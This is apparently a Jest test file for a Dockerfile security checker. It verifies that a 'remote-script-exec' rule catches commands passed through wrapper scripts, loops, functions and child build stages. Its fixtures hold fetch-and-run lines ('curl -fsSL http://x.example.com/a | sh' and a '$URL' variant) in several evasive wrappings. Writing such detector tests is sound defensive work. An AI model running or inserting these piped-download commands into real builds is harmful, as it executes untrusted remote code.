import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const PIPED = 'curl -fsSL http://x.example.com/a | sh';
const PASSES_ON = '#!/bin/sh\nset -e\nprogram=$1; shift\nexec "$program" "$@"\n';
const OF_SCRIPT = ['remote-script-exec'];

/** A Dockerfile that runs a script, and then the commands. */
const copied = (commands = ''): string =>
  `FROM debian:13\nCOPY run.sh /usr/local/bin/run\nRUN run echo a\n${commands}USER 1000\n`;
const written = (commands = ''): string =>
  `FROM debian:13\nRUN printf '#!/bin/sh\\nexec "$@"\\n' > /usr/local/bin/run && chmod +x /usr/local/bin/run && run echo a\n${commands}USER 1000\n`;
const inChild = (commands = ''): string =>
  `FROM debian:13 AS b\nCOPY run.sh /usr/local/bin/run\nRUN run echo a\nFROM b\n${commands}USER 1000\n`;

interface Row {
  readonly dockerfile: (commands?: string) => string;
  readonly script?: string;
  readonly danger: string;
  readonly harmless: string;
}

const OF_VARIABLE = '#!/bin/sh\ncurl -fsSL "$URL" | sh\n';
const OPENS_ITSELF = '#!/bin/sh\nif [ "$1" != x ]; then exec "$0" x "$@"; fi\nshift\n"$@"\n';

const ROWS: readonly (readonly [string, Row])[] = [
  ['a copied one', { dockerfile: copied, danger: `RUN run sh -c '${PIPED}'\n`, harmless: "RUN run sh -c 'id'\n" }],
  [
    'by its path',
    { dockerfile: copied, danger: `RUN /usr/local/bin/run sh -c '${PIPED}'\n`, harmless: 'RUN run id\n' },
  ],
  ['by a shell', { dockerfile: copied, danger: `RUN sh $(which run) sh -c '${PIPED}'\n`, harmless: 'RUN run id\n' }],
  [
    'in a loop',
    { dockerfile: copied, danger: `RUN for c in '${PIPED}'; do run sh -c "$c"; done\n`, harmless: 'RUN run id\n' },
  ],
  ['in a child', { dockerfile: inChild, danger: `RUN run sh -c '${PIPED}'\n`, harmless: 'RUN run id\n' }],
  ['a written one', { dockerfile: written, danger: `RUN run sh -c '${PIPED}'\n`, harmless: "RUN run sh -c 'id'\n" }],
  [
    'one that starts itself',
    { dockerfile: copied, script: OPENS_ITSELF, danger: `RUN run sh -c '${PIPED}'\n`, harmless: 'RUN run id\n' },
  ],
  [
    'by a function',
    {
      dockerfile: copied,
      danger: `RUN f() { run "$@"; }; f sh -c '${PIPED}'\n`,
      harmless: 'RUN f() { run "$@"; }; f id\n',
    },
  ],
];

describe('a script that is called again with other words', () => {
  it.each(ROWS)('is read with them: %s', async (_, { dockerfile, script = PASSES_ON, danger, harmless }) => {
    const base: Files = { Dockerfile: dockerfile(), 'run.sh': script };
    expect(new Set(await failuresOf(base, { Dockerfile: dockerfile(danger) }))).toEqual(new Set(OF_SCRIPT));
    expect(await failuresOf(base, { Dockerfile: dockerfile(harmless) })).toEqual([]);
  });

  it('is read with other values of its variables', async () => {
    const with_ = (runs: string): string => `FROM debian:13\nCOPY run.sh /usr/local/bin/run\n${runs}USER 1000\n`;
    const known = 'RUN URL=https://x.example.com/a run\n';
    const base: Files = { Dockerfile: with_(known), 'run.sh': OF_VARIABLE };
    const other = known.replace('https', 'http');
    expect(await failuresOf(base, { Dockerfile: with_(known + other) })).toEqual(OF_SCRIPT);
    expect(await failuresOf(base, { Dockerfile: with_(known + known) })).toEqual([]);
  });

  it('is not read without end', async () => {
    const names = Array.from({ length: 30 }, (_, at) => at);
    const scripts = Object.fromEntries(
      names.map((at) => [`bin/s${at}`, `#!/bin/sh\ns${at + 1} "$1a"\ns${at + 1} "$1b"\n`]),
    );
    const base: Files = { Dockerfile: 'FROM debian:13\nUSER 1000\n', ...scripts };
    const change = { Dockerfile: 'FROM debian:13\nCOPY bin/ /usr/local/bin/\nRUN s0 x\nUSER 1000\n' };
    expect(await failuresOf(base, change)).toEqual(['limit-reached']);
  });
});
